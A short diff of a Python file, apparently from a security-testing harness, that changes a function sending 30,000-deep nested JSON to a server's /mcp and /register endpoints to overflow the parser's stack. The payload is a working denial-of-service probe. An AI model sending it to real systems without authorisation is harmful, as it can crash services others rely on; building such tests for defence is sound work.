@@ -149,7 +149,7 @@ def path_out_of_the_folder(at: Target) -> str:
 
 def deep_json(at: Target) -> str:
     """Send JSON so deep that it ends the stack of who reads it."""
-    deep = b'{"a":' * 30_000 + b"1" + b"}" * 30_000
+    deep = b"[" * 30_000 + b"]" * 30_000
     headers = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"}
     return ", ".join(str(at.send("POST", path, deep, headers)) for path in ("/mcp", "/register"))
 
